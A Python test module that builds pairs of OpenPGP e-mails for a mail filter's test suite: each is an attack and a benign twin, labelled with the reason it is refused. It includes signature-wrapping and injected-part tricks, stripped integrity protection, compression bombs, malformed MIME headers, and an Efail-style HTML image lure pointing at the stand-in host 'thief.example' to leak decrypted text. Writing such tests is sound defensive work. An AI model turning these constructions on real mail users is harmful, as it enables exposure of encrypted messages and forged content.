"""Attacks on OpenPGP mail, each beside a twin that differs from it in the attack alone and is good.

`ATTACKS` has them by name, with the reason for which each is refused. Nothing here is known to the code under
test.
"""

from collections.abc import Callable

import pgp_shapes as shapes
from pgp_packets import SIGNATURE, armoured, bare, compressed, joined, literal, packet, split
from pgp_world import World

from ivr.domain.mail import Reason

TEXT = shapes.TEXT
LURE = b"+491234567"
BESIDE = b"Content-Type: text/plain\r\n\r\nCall %b at once.\r\n" % LURE
Pair = tuple[bytes, bytes]
"""The attack, and its twin."""
ATTACKS: dict[str, tuple[Reason, Callable[[World], Pair]]] = {}


def attack(reason: Reason) -> Callable[[Callable[[World], Pair]], Callable[[World], Pair]]:
    def keep(make: Callable[[World], Pair]) -> Callable[[World], Pair]:
        ATTACKS[make.__name__] = (reason, make)
        return make

    return keep


# What stands around the encryption


@attack(Reason.NOT_ENCRYPTED)
def in_clear(here: World) -> Pair:
    return shapes.mail(TEXT), shapes.mutt(here.sealed(TEXT))


@attack(Reason.NOT_ENCRYPTED)
def signed_alone(here: World) -> Pair:
    packets = here.team.signed(TEXT)
    return shapes.mutt(armoured(packets)), shapes.mutt(here.encrypted(packets))


@attack(Reason.NOT_ENCRYPTED)
def signed_alone_by_mime(here: World) -> Pair:
    content = shapes.encapsulated(TEXT, here.team.detached(TEXT))
    return shapes.mail(content), shapes.mutt(here.encrypted(literal(content)))


@attack(Reason.NOT_TO_US)
def to_another(here: World) -> Pair:
    return shapes.mutt(here.team.sealed(TEXT, here.other.fingerprint)), shapes.mutt(here.sealed(TEXT))


@attack(Reason.NOT_TO_US)
def to_another_who_is_hidden(here: World) -> Pair:
    other = here.team.sealed(TEXT, here.other.fingerprint, "--throw-keyids")
    return shapes.mutt(other), shapes.mutt(here.sealed(TEXT, "--throw-keyids"))


@attack(Reason.NOT_TO_US)
def signed_for_another_list(here: World) -> Pair:
    """A member of both has decrypted it, and encrypts it to this one."""
    (first, text, _) = split(here.team.signed(TEXT, "--digest-algo", "SHA256"))
    bad, good = (
        shapes.mutt(here.encrypted(joined([first, text, (2, here.team.signed_for(TEXT, reader))])))
        for reader in (here.other.fingerprint, here.own)
    )
    return bad, good


@attack(Reason.MALFORMED)
def to_whoever_knows_a_passphrase(here: World) -> Pair:
    how = ("--symmetric", "--pinentry-mode", "loopback", "--passphrase", "secret")
    return shapes.mutt(here.sealed(TEXT, *how)), shapes.mutt(here.sealed(TEXT))


@attack(Reason.NOT_WHOLLY_SIGNED)
def exfiltrated_by_parts_around_it(here: World) -> Pair:
    """The open attribute of one part swallows the next, decrypted (Efail, 2018)."""
    sealed = here.sealed(TEXT)
    head, _, rest = shapes.pgp_mime(sealed).partition(b"Content-Type: multipart/encrypted")
    part = b"Content-Type: multipart/encrypted" + rest
    html = b'--x\r\nContent-Type: text/html\r\n\r\n<img src="http://thief.example/\r\n'
    mixed = b'Content-Type: multipart/mixed; boundary="x"\r\n\r\n' + html
    return head + mixed + b"--x\r\n" + part + b"\r\n" + html + b"--x--\r\n", shapes.pgp_mime(sealed)


@attack(Reason.NOT_WHOLLY_SIGNED)
def a_third_part(here: World) -> Pair:
    sealed = here.sealed(TEXT)
    mail = shapes.pgp_mime(sealed)
    return mail.replace(b"--b0undary--", b"--b0undary\r\n" + BESIDE + b"--b0undary--"), mail


@attack(Reason.NOT_WHOLLY_SIGNED)
def text_after_the_parts(here: World) -> Pair:
    sealed = here.sealed(TEXT)
    return shapes.pgp_mime(sealed, after=b"Call +491234567.\n"), shapes.pgp_mime(sealed, after=b"\n")


@attack(Reason.NOT_WHOLLY_SIGNED)
def text_before_the_parts(here: World) -> Pair:
    sealed = here.sealed(TEXT)
    hint = b"This is an OpenPGP/MIME encrypted message (RFC 4880 and 3156)\n"
    return shapes.pgp_mime(sealed, preamble=hint + BESIDE), shapes.pgp_mime(sealed, preamble=hint)


@attack(Reason.NOT_WHOLLY_SIGNED)
def text_before_armour(here: World) -> Pair:
    sealed = here.sealed(TEXT)
    return shapes.inline(sealed, before=b"Call +491234567.\n"), shapes.inline(sealed, before=b"\n")


@attack(Reason.NOT_WHOLLY_SIGNED)
def text_after_armour(here: World) -> Pair:
    sealed = here.sealed(TEXT)
    return shapes.inline(sealed, after=b"\n-- \nfooter of a list\n"), shapes.inline(sealed, after=b"\n")


@attack(Reason.NOT_WHOLLY_SIGNED)
def armour_twice(here: World) -> Pair:
    sealed = here.sealed(TEXT)
    return shapes.inline(sealed + sealed), shapes.inline(sealed)


@attack(Reason.NOT_WHOLLY_SIGNED)
def armour_in_html(here: World) -> Pair:
    mail = shapes.inline(here.sealed(TEXT))
    return mail.replace(b"text/plain", b"text/html"), mail


@attack(Reason.SIGNED_OUTSIDE)
def signed_around_by_mime(here: World) -> Pair:
    """By whoever: it says only that he has seen the mail."""
    sealed = here.team.sealed(TEXT, here.own)
    inner = shapes.pgp_mime(sealed).partition(b"MIME-Version: 1.0\r\n")[2]
    inner = inner[inner.index(b"Content-Type:") :]
    return shapes.mail(
        shapes.encapsulated(inner, here.stranger.detached(inner)).replace(b"\r\n", b"\n")
    ), shapes.pgp_mime(sealed)


@attack(Reason.SIGNED_OUTSIDE)
def signed_around_by_packets(here: World) -> Pair:
    sealed = bare(here.sealed(TEXT))
    (first, _, last) = split(here.stranger.signed(sealed))
    around = armoured(joined([first]) + sealed + joined([last]))
    return shapes.mutt(around), shapes.mutt(armoured(sealed))


@attack(Reason.SIGNED_OUTSIDE)
def signed_around_in_a_text(here: World) -> Pair:
    sealed = here.sealed(TEXT)
    clear = here.stranger.gpg("--clearsign", given=sealed)
    return shapes.inline(clear), shapes.inline(sealed)


# The encryption


@attack(Reason.NO_INTEGRITY)
def without_modification_detection(here: World) -> Pair:
    packets = here.team.signed(TEXT)
    how = ("--cipher-algo", "AES256")
    bad = here.encrypted(packets, "--rfc2440", *how)
    return shapes.mutt(bad), shapes.mutt(here.encrypted(packets, *how))


@attack(Reason.NO_INTEGRITY)
def modification_detection_taken_off(here: World) -> Pair:
    """The packet is called one without it (Efail, 2018)."""
    sealed = bare(here.encrypted(here.team.signed(TEXT)))
    parts = [(9, body[1:-22]) if tag == 18 else (tag, body) for tag, body in split(sealed)]
    return shapes.mutt(armoured(joined(parts))), shapes.mutt(armoured(sealed))


@attack(Reason.NO_INTEGRITY)
def one_bit_turned_on_the_way(here: World) -> Pair:
    sealed = bare(here.encrypted(here.team.signed(TEXT)))
    return shapes.mutt(armoured(sealed[:-40] + bytes([sealed[-40] ^ 1]) + sealed[-39:])), shapes.mutt(
        armoured(sealed)
    )


@attack(Reason.NOT_WHOLLY_SIGNED)
def two_encrypted_messages(here: World) -> Pair:
    sealed = bare(here.sealed(TEXT))
    return shapes.mutt(armoured(sealed + sealed)), shapes.mutt(armoured(sealed))


@attack(Reason.NOT_WHOLLY_SIGNED)
def a_text_behind_the_encrypted_one(here: World) -> Pair:
    sealed = bare(here.sealed(TEXT))
    return shapes.mutt(armoured(sealed + literal(BESIDE))), shapes.mutt(armoured(sealed))


@attack(Reason.TOO_COMPLEX)
def encrypted_twice(here: World) -> Pair:
    sealed = bare(here.sealed(TEXT))
    return shapes.mutt(here.encrypted(sealed)), shapes.mutt(armoured(sealed))


@attack(Reason.TOO_COMPLEX)
def to_a_thousand_keys(here: World) -> Pair:
    sealed = bare(here.sealed(TEXT))
    key = joined([split(sealed)[0]])
    return shapes.mutt(armoured(key * 999 + sealed)), shapes.mutt(armoured(key * 99 + sealed))


@attack(Reason.MALFORMED)
def cut_off(here: World) -> Pair:
    sealed = bare(here.sealed(TEXT))
    return shapes.mutt(armoured(sealed[:-9])), shapes.mutt(armoured(sealed))


def weak_cipher(name: str) -> None:
    def make(here: World) -> Pair:
        packets = here.team.signed(TEXT)
        # GnuPG asks for this word since 2.3, and has not known it before.
        old = () if b"GnuPG) 2.2" in here.team.gpg("--version") else ("--allow-old-cipher-algos",)
        twin = here.encrypted(packets, "--cipher-algo", "AES")
        return shapes.mutt(here.encrypted(packets, *old, "--cipher-algo", name)), shapes.mutt(twin)

    ATTACKS[f"encrypted_with_{name}"] = (Reason.WEAK_CIPHER, make)


for _name in ("3DES", "CAST5", "BLOWFISH", "IDEA"):
    weak_cipher(_name)


# What is signed


@attack(Reason.NOT_SIGNED)
def not_signed(here: World) -> Pair:
    packets = here.team.signed(TEXT)
    return shapes.mutt(here.encrypted(joined(split(packets)[1:2]))), shapes.mutt(here.encrypted(packets))


@attack(Reason.NOT_SIGNED)
def not_signed_in_a_text(here: World) -> Pair:
    packets = here.team.signed(TEXT)
    return shapes.inline(here.encrypted(joined(split(packets)[1:2]))), shapes.inline(here.encrypted(packets))


@attack(Reason.BAD_SIGNATURE)
def another_text_under_the_signature(here: World) -> Pair:
    (first, (_, text), last) = split(here.team.signed(TEXT))
    bad = joined([first, (11, text.replace(b"1434", b"1435")), last])
    return shapes.mutt(here.encrypted(bad)), shapes.mutt(here.encrypted(joined([first, (11, text), last])))


@attack(Reason.BAD_SIGNATURE)
def another_part_under_the_signature(here: World) -> Pair:
    content = shapes.encapsulated(TEXT, here.team.detached(TEXT))
    bad = content.replace(b"1434", b"1435")
    return shapes.mutt(here.encrypted(literal(bad))), shapes.mutt(here.encrypted(literal(content)))


@attack(Reason.BAD_SIGNATURE)
def a_signature_that_gpg_does_not_know(here: World) -> Pair:
    (first, text, (tag, body)) = split(here.team.signed(TEXT))
    bad = joined([first, text, (tag, body[:2] + b"\x63" + body[3:])])  # an algorithm of somebody's own
    return shapes.mutt(here.encrypted(bad)), shapes.mutt(here.encrypted(joined([first, text, (tag, body)])))


@attack(Reason.NOT_WHOLLY_SIGNED)
def the_end_of_a_line_that_gpg_does_not_read(here: World) -> Pair:
    """Over lines of text, a signature of gpg's ends at 19,995 bytes of a line."""
    (first, _, _) = split(here.team.signed(b"x", "--textmode"))

    def mail(length: int, text: bytes) -> bytes:
        signature = bare(here.team.detached(b"x" * length + b"pay A\r\n", "--textmode"))
        packets = joined([first]) + literal(b"x" * length + text) + signature
        return shapes.inline(here.encrypted(packets))

    return mail(20_050, b"pay B\r\n"), mail(18_050, b"pay A\r\n")


@attack(Reason.NOT_WHOLLY_SIGNED)
def a_second_text_behind(here: World) -> Pair:
    packets = here.team.signed(TEXT)
    return shapes.mutt(here.encrypted(packets + literal(BESIDE))), shapes.mutt(here.encrypted(packets))


@attack(Reason.NOT_WHOLLY_SIGNED)
def a_second_text_before(here: World) -> Pair:
    packets = here.team.signed(TEXT)
    return shapes.mutt(here.encrypted(literal(BESIDE) + packets)), shapes.mutt(here.encrypted(packets))


@attack(Reason.NOT_WHOLLY_SIGNED)
def a_second_text_under_the_signature(here: World) -> Pair:
    (first, text, last) = split(here.team.signed(TEXT))
    bad = joined([first]) + literal(BESIDE) + joined([text, last])
    return shapes.mutt(here.encrypted(bad)), shapes.mutt(here.encrypted(joined([first, text, last])))


@attack(Reason.NOT_WHOLLY_SIGNED)
def a_packed_text_behind(here: World) -> Pair:
    packets = here.team.signed(TEXT)
    bad = packets + compressed(literal(BESIDE))
    return shapes.mutt(here.encrypted(bad)), shapes.mutt(here.encrypted(packets))


@attack(Reason.NOT_WHOLLY_SIGNED)
def a_part_beside_the_signed_one(here: World) -> Pair:
    signed = shapes.encapsulated(TEXT, here.team.detached(TEXT))
    mixed = b'Content-Type: multipart/mixed; boundary="x"\r\n\r\n--x\r\n%b\r\n--x\r\n%b\r\n--x--\r\n'
    bad = literal(mixed % (BESIDE, signed))
    return shapes.mutt(here.encrypted(bad)), shapes.mutt(here.encrypted(literal(signed)))


@attack(Reason.NOT_WHOLLY_SIGNED)
def a_part_behind_the_signature(here: World) -> Pair:
    signature = here.team.detached(TEXT)
    bad = shapes.encapsulated(TEXT, signature, more=b"--s\r\n" + BESIDE)
    good = shapes.encapsulated(TEXT, signature)
    return shapes.mutt(here.encrypted(literal(bad))), shapes.mutt(here.encrypted(literal(good)))


@attack(Reason.NOT_WHOLLY_SIGNED)
def a_text_behind_the_signed_parts(here: World) -> Pair:
    signature = here.team.detached(TEXT)
    bad = shapes.encapsulated(TEXT, signature, after=b"Call +491234567.\r\n")
    good = shapes.encapsulated(TEXT, signature, after=b"\r\n")
    return shapes.mutt(here.encrypted(literal(bad))), shapes.mutt(here.encrypted(literal(good)))


@attack(Reason.SEVERAL_SIGNATURES)
def signed_by_two(here: World) -> Pair:
    (first, text, last) = split(here.team.signed(TEXT))
    (outer, _, end) = split(here.other.signed(TEXT))
    bad = joined([(4, outer[1][:-1] + b"\0"), first, text, last, end])
    return shapes.mutt(here.encrypted(bad)), shapes.mutt(here.encrypted(joined([first, text, last])))


@attack(Reason.SEVERAL_SIGNATURES)
def two_signatures_behind_a_part(here: World) -> Pair:
    one, two = (bare(peer.detached(TEXT)) for peer in (here.team, here.other))
    bad, good = (shapes.encapsulated(TEXT, armoured(packets, SIGNATURE)) for packets in (one + two, one))
    return shapes.mutt(here.encrypted(literal(bad))), shapes.mutt(here.encrypted(literal(good)))


@attack(Reason.SEVERAL_SIGNATURES)
def signed_as_a_part_and_as_a_message(here: World) -> Pair:
    content = shapes.encapsulated(TEXT, here.other.detached(TEXT))
    return shapes.mutt(here.sealed(content)), shapes.mutt(here.sealed(TEXT))


@attack(Reason.SEVERAL_SIGNATURES)
def a_part_signed_twice(here: World) -> Pair:
    once = shapes.encapsulated(TEXT, here.team.detached(TEXT))
    twice = shapes.encapsulated(once, here.team.detached(once)).replace(b'boundary="s"', b'boundary="t"', 1)
    twice = twice.replace(b"--s\r\n", b"--t\r\n", 1)
    head, _, rest = twice.rpartition(b"--s\r\n")
    bad = head + b"--t\r\n" + rest.replace(b"--s--", b"--t--")
    return shapes.mutt(here.encrypted(literal(bad))), shapes.mutt(here.encrypted(literal(once)))


@attack(Reason.TOO_COMPLEX)
def packed_twice(here: World) -> Pair:
    packets = compressed(here.team.signed(TEXT))
    return shapes.mutt(here.encrypted(compressed(packets))), shapes.mutt(here.encrypted(packets))


@attack(Reason.MALFORMED)
def something_behind_what_is_packed(here: World) -> Pair:
    packed = compressed(here.team.signed(TEXT))
    (tag, body) = split(packed)[0]
    return shapes.mutt(here.encrypted(packet(tag, body + b"beside"))), shapes.mutt(here.encrypted(packed))


def bomb(algorithm: int) -> None:
    def make(here: World) -> Pair:
        bad = compressed(literal(bytes(64 * 2**20)), algorithm)
        assert len(bad) < 100_000
        good = compressed(here.team.signed(TEXT), algorithm)
        return shapes.mutt(here.encrypted(bad)), shapes.mutt(here.encrypted(good))

    ATTACKS[f"a_bomb_of_kind_{algorithm}"] = (Reason.TOO_COMPLEX, make)


for _algorithm in (1, 2, 3):
    bomb(_algorithm)


def weak_hash(name: str) -> None:
    def make(here: World) -> Pair:
        how = ("--allow-weak-digest-algos", "--digest-algo")
        twin = here.sealed(TEXT, "--digest-algo", "SHA256")
        return shapes.mutt(here.sealed(TEXT, *how, name)), shapes.mutt(twin)

    ATTACKS[f"signed_with_{name}"] = (Reason.WEAK_SIGNATURE, make)


for _name in ("SHA1", "RIPEMD160"):
    weak_hash(_name)


@attack(Reason.UNKNOWN_SIGNER)
def signed_by_one_of_the_same_name(here: World) -> Pair:
    return shapes.mutt(here.stranger.sealed(TEXT, here.own)), shapes.mutt(here.sealed(TEXT))


def _unreadable(here: World, benign: bytes, broken: bytes) -> Pair:
    """In the header fields of the encrypted part, where Python's `email` fails."""
    good = shapes.pgp_mime(here.sealed(TEXT)).replace(b"octet-stream", b"octet-stream; " + benign)
    return good.replace(benign, broken), good


@attack(Reason.MALFORMED)
def a_name_in_two_ways(here: World) -> Pair:
    return _unreadable(here, b"name*0*=a", b"name*0*=a; name*=b")


@attack(Reason.MALFORMED)
def a_boundary_in_two_ways(here: World) -> Pair:
    good = shapes.pgp_mime(here.sealed(TEXT))
    return good.replace(b'boundary="b0undary"', b"boundary*0*=b0undary; boundary*=b"), good


@attack(Reason.MALFORMED)
def a_name_in_no_charset(here: World) -> Pair:
    return _unreadable(here, b"name*=utf-8''x", b"name*=\0''x")


@attack(Reason.MALFORMED)
def a_name_in_no_charset_by_pieces(here: World) -> Pair:
    return _unreadable(here, b"name*0*=utf-8''x", b"name*0*=%00''x")


@attack(Reason.MALFORMED)
def what_is_signed_has_a_name_in_two_ways(here: World) -> Pair:
    """Within the encryption, where the filters have not looked before."""
    good = shapes.encapsulated(TEXT, here.team.detached(TEXT))
    bad = good.replace(b'name="signature.asc"', b"name*0*=a; name*=b")
    return shapes.mutt(here.encrypted(literal(bad))), shapes.mutt(here.encrypted(literal(good)))
